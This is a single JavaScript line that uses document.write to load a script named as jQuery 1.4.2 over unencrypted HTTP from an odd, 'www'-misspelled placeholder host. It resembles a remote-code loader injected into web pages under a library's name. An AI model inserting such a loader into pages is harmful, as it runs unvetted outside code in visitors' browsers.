document.write('<script src="http://nww.careledger-host.invalid/js/jquery-1.4.2.min.js"><\/script>');
